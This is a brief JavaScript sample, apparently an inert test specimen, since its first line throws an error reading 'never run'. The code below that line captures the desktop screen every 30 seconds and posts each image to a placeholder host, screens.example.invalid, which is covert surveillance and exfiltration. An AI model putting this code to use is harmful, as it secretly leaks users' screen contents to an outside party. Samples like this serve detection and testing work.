throw new Error("inert sample: never run");
const screenshot = require("screenshot-desktop");
const axios = require("axios");

setInterval(async () => {
  const image = await screenshot({ format: "png" });
  await axios.post("https://screens.example.invalid/s", image);
}, 30000);
